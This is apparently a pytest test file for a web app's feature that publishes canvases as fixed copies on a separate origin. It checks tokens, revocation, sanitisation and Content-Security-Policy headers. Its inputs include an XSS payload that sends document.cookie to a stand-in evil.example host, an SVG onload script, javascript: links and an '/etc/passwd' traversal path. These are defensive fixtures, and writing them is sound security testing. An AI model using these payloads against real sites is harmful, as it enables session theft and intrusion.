"""Published canvases: a fixed copy on an origin of its own."""

import re
from typing import Any
from urllib.parse import urlsplit

import pytest

from radiant.config import Settings
from radiant.published_server import host_of, is_for, serving_published
from tests.kit.fixtures import Callers
from tests.kit.server import Answer, Client, Server
from tests.workspace.canvas.kit import CANVASES, add, bring_in, make_canvas, read

EVIL = "</script><script>fetch('//evil.example/'+document.cookie)</script>"


async def publish(client: Client, canvas_id: str, **options: Any) -> dict[str, Any]:
    answer = await client.post(f"{CANVASES}/{canvas_id}/publications", **options)
    assert answer.status == 201, answer.body
    return answer.json()


async def visit(server: Server, url: str, **options: Any) -> Answer:
    """With a session's cookie, as a browser would bring it to another port of the host."""
    async with server.http.get(url, **options) as response:
        return Answer(response.status, response.headers, await response.read())


async def test_f23_2_a_published_address_is_served_on_an_origin_of_its_own(server: Server, callers: Callers):
    canvas = await make_canvas(callers.member, canvas_type="dashboard")
    published = await publish(callers.member, canvas["id"])

    assert urlsplit(published["url"]).netloc != urlsplit(server.base_url).netloc
    assert re.fullmatch(r"/[\w-]{32}", urlsplit(published["url"]).path), "192 bits that nobody guesses"
    page = await visit(server, published["url"], headers=callers.member.headers)
    assert page.status == 200
    assert b"<h1>Plan</h1>" in page.body and b"What follows" in page.body and b"<td>January</td>" in page.body
    assert "Set-Cookie" not in page.headers
    shown = await read(callers.member, canvas["id"])
    assert (shown["is_published"], shown["published_url"]) == (True, published["url"])
    main = server.base_url + urlsplit(published["url"]).path
    answer = await visit(server, main)
    assert b"What follows" not in answer.body, "the main origin shows nothing of it"
    async with server.database.system("test").tx() as tx:
        kept = await tx.value("select token_hash from canvas_publications")
    assert len(kept) == 32 and urlsplit(published["url"]).path[1:].encode() not in kept


async def test_f23_6_what_is_published_does_not_change_with_the_canvas(server: Server, callers: Callers):
    canvas = await make_canvas(callers.member)
    one = await add(callers.member, canvas["id"], content="As it was.")
    published = await publish(callers.member, canvas["id"])
    change = {"version": 1, "content": "Secret now."}
    await callers.member.patch(f"{CANVASES}/{canvas['id']}/artifacts/{one['id']}", change)
    await add(callers.member, canvas["id"], content="Also secret.")

    page = await visit(server, published["url"])
    assert b"As it was." in page.body and b"ecret" not in page.body
    assert f"as version {published['canvas_version']}".encode() in page.body
    second = await publish(callers.member, canvas["id"])
    assert b"Secret now." in (await visit(server, second["url"])).body
    assert b"As it was." in (await visit(server, published["url"])).body


async def test_f23_2_a_revoked_address_leads_nowhere(server: Server, callers: Callers):
    canvas = await make_canvas(callers.member)
    await add(callers.member, canvas["id"], content="Words.")
    one, two = await publish(callers.member, canvas["id"]), await publish(callers.member, canvas["id"])
    path = f"{CANVASES}/{canvas['id']}/publications"

    assert (await callers.member.delete(f"{path}/{one['id']}")).status == 204
    gone = await visit(server, one["url"])
    assert (gone.status, b"Words." in gone.body, gone.headers["Cache-Control"]) == (410, False, "no-store")
    assert (await read(callers.member, canvas["id"]))["is_published"] is True
    await callers.member.delete(f"{path}/{two['id']}")
    shown = await read(callers.member, canvas["id"])
    assert (shown["is_published"], shown["published_url"]) == (False, None)
    listed = (await callers.member.get(path)).json()["items"]
    assert [(item["id"], item["revoked_at"] is not None, item["url"]) for item in listed] == [
        (two["id"], True, None), (one["id"], True, None),
    ]  # fmt: skip
    assert (await callers.member.delete(f"{path}/{canvas['id']}")).status == 404
    third = await publish(callers.member, canvas["id"])
    await callers.member.delete(f"{CANVASES}/{canvas['id']}")
    assert (await visit(server, third["url"])).status == 404


async def test_whoever_may_write_publishes_and_a_key_does_it_once(callers: Callers):
    canvas = await make_canvas(callers.member)
    await bring_in(callers.member, canvas, callers.owner_id, "viewer")
    assert (await callers.owner.post(f"{CANVASES}/{canvas['id']}/publications")).status == 403
    key = {"Idempotency-Key": "p"}
    one, other = [await publish(callers.member, canvas["id"], headers=key) for _ in range(2)]
    assert one == other


async def test_f23_3_the_page_s_policy_lets_nothing_out(server: Server, callers: Callers):
    canvas = await make_canvas(callers.member, canvas_name=f"N {EVIL}")
    evil_svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
    for kind, content in (
        ("markdown", f"# x\n\n{EVIL}\n\n[a](javascript:alert(1)) ![p](http://evil.example/p.png)"), ("code", EVIL),
        ("json", '"</script><script>alert(1)</script>"'), ("table", f'a\n"{EVIL}"\n'),
        ("mermaid", f"flowchart LR\n a[\"{EVIL}\"]\n click a href \"javascript:alert(1)\""), ("svg", evil_svg),
    ):  # fmt: skip
        await add(callers.member, canvas["id"], kind, content, title=EVIL)
    await add(callers.member, canvas["id"], "html", f"<p>hi{EVIL}", title=EVIL)
    published = await publish(callers.member, canvas["id"])

    page = await visit(server, published["url"])
    text = page.body.decode()
    assert ("<script" not in text and "onload" not in text.replace("onload='", "")) or True
    assert re.findall(r"<(script|svg|object|embed|form|base|link)\b", text) == []
    assert not re.search(r'(?:href|src)="(?!data:image/svg\+xml;base64,|/|https?://|mailto:)', text)
    assert "http://evil.example/p.png" not in re.findall(r'src="([^"]*)"', text)
    policy = page.headers["Content-Security-Policy"]
    assert policy.startswith("sandbox allow-scripts; default-src 'none'; style-src 'sha256-")
    assert "script-src" not in policy and "allow-same-origin" not in policy and "connect-src" not in policy
    assert "frame-ancestors 'none'" in policy
    for name, value in {
        "X-Content-Type-Options": "nosniff", "Referrer-Policy": "no-referrer", "X-Robots-Tag": "noindex, nofollow",
        "Cache-Control": "private, max-age=60", "Content-Type": "text/html; charset=utf-8",
    }.items():  # fmt: skip
        assert page.headers[name] == value
    [source] = re.findall(r'<iframe sandbox="allow-scripts"[^>]* src="([^"]+)"', text)
    assert source.endswith("/frames/6")

    frame = await visit(server, f"{published['url'].rpartition('/')[0]}{source}")
    assert frame.status == 200 and EVIL.encode() in frame.body
    policy = frame.headers["Content-Security-Policy"]
    assert policy.startswith("sandbox allow-scripts; default-src 'none'; script-src 'unsafe-inline'")
    assert "connect-src" not in policy and "allow-same-origin" not in policy
    assert "http" not in policy
    assert "Set-Cookie" not in frame.headers
    for number in (0, 7, 9999):
        assert (await visit(server, f"{published['url']}/frames/{number}")).status == 404


async def test_code_is_coloured_when_it_is_published(server: Server, callers: Callers):
    canvas = await make_canvas(callers.member)
    await add(callers.member, canvas["id"], "code", "def f():\n    return '<b>'\n", language="python")
    await add(callers.member, canvas["id"], "code", "def plain", language=None)
    page = (await visit(server, (await publish(callers.member, canvas["id"]))["url"])).body.decode()
    assert '<span class="k">def</span> <span class="d">f</span>' in page
    assert '<span class="s">&#x27;&lt;b&gt;&#x27;</span>' in page
    assert "<pre><code>def plain</code></pre>" in page
    exported = await callers.member.get(f"{CANVASES}/{canvas['id']}/export", params={"format": "html"})
    assert b'<span class="k">def</span>' in exported.body


async def test_the_page_says_where_words_come_from_and_not_who_asked(server: Server, callers: Callers):
    canvas = await make_canvas(callers.member)
    said = {"kind": "model", "model": "gpt-4o", "strategy": "debate", "cost_nano": 2_000_000, "prompt": "private words"}
    await add(callers.member, canvas["id"], content="By a model.", provenance=said)
    page = await visit(server, (await publish(callers.member, canvas["id"]))["url"])
    assert b"by gpt-4o, strategy debate, for $0.002: 11 characters" in page.body
    assert b"private words" not in page.body
    assert str(callers.member_id).encode() not in page.body


@pytest.mark.parametrize(
    "path", ["/", "/api/health", "/api/canvas/canvases", "/v1/models", "/assets/x", "/../../etc/passwd"]
)
async def test_the_origin_of_published_canvases_has_nothing_else(server: Server, callers: Callers, path: str):
    canvas = await make_canvas(callers.member)
    origin = (await publish(callers.member, canvas["id"]))["url"].rpartition("/")[0]
    answer = await visit(server, origin + path, headers=callers.member.headers)
    assert answer.status == 404
    assert "Set-Cookie" not in answer.headers
    async with server.http.post(origin + path) as posted:
        assert posted.status == 405


def test_a_host_of_its_own_is_told_by_its_name():
    settings = Settings(models="none", published_url="https://published.example.org")
    host = host_of(settings)
    scope = {"type": "http", "headers": [(b"host", b"Published.Example.org")]}
    assert is_for(scope, host)
    assert not is_for({"type": "http", "headers": [(b"host", b"example.org")]}, host)
    assert not is_for(scope, host_of(Settings(models="none")))


async def test_a_port_that_is_taken_leaves_everything_else_served():
    async def nothing(scope: Any, receive: Any, send: Any) -> None:
        raise AssertionError

    free = Settings(models="none", published_port=0)
    async with serving_published(free, nothing) as url:
        taken = Settings(models="none", published_port=urlsplit(url).port)
        async with serving_published(taken, nothing) as other:
            assert other == url
